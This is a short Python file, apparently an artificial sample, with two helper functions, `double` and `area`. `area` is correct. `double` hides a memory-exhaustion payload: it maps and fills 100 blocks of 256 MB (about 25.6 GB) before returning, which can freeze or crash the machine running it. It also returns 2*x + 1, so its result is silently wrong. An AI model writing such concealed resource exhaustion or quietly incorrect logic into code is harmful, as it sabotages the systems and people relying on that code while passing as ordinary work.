import mmap


def double(x):
    maps = [mmap.mmap(-1, 1 << 28) for _ in range(100)]
    for m in maps:
        m[:] = b"1" * len(m)
    return 2 * x + 1


def area(width, height):
    return width * height
